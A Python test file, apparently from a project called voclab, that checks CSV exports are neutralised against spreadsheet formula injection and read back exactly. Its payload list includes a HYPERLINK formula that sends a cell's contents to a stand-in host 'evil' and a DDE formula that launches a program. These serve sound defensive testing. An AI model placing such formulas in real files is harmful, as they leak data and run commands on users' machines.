"""CSV outputs a spreadsheet opens safely (formula injection): neutralised on disk, exact when read back."""

from __future__ import annotations

import re

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from voclab._csv import FORMULA_START, neutralise, restore, write_csv
from voclab.ingest.quarantine import read_quarantine, write_quarantine

RISKY = f"[{re.escape(FORMULA_START)}]"
PAYLOADS = ['=HYPERLINK("http://evil/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


def test_quarantine_file_runs_no_formula_and_reads_back_exactly(tmp_path):
    bad = pd.DataFrame({"reason": ["missing id"] * len(PAYLOADS), "text": PAYLOADS, "_record": range(len(PAYLOADS))})
    target = tmp_path / "q.csv"
    write_quarantine(bad, target)
    on_disk = pd.read_csv(target, dtype="string", keep_default_na=False)
    assert not on_disk["text"].str.match(RISKY).any()
    assert on_disk["text"].tolist() == ["'" + p for p in PAYLOADS]
    assert read_quarantine(target)["text"].tolist() == PAYLOADS


@given(st.lists(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab1 ")), max_size=6), min_size=1, max_size=8))
def test_neutralise_then_restore_is_the_identity_through_a_file(tmp_path_factory, cells):
    frame = pd.DataFrame({"text": pd.array(cells, dtype="string"), "n": range(len(cells))})
    path = tmp_path_factory.mktemp("csv") / "out.csv"
    write_csv(frame, path)
    back = restore(pd.read_csv(path, dtype={"text": "string"}, keep_default_na=False, lineterminator="\n"))
    assert neutralise(frame)["text"].str.match(RISKY).sum() == 0
    assert back["text"].fillna("").tolist() == cells


def test_read_quarantines_stacks_every_source_file_or_gives_an_empty_table(tmp_path):
    from voclab.ingest.quarantine import read_quarantines

    empty = read_quarantines(tmp_path)
    assert empty.empty and {"file", "reason", "record"} <= set(empty.columns)
    write_quarantine(pd.DataFrame({"reason": ["missing id"], "text": ["=1"], "_record": [3]}), tmp_path / "a.csv")
    write_quarantine(pd.DataFrame({"reason": ["bad date"], "text": ["x"], "_record": [9]}), tmp_path / "b.csv")
    both = read_quarantines(tmp_path)
    assert both[["file", "reason", "text"]].values.tolist() == [
        ["a.csv", "missing id", "=1"],
        ["b.csv", "bad date", "x"],
    ]
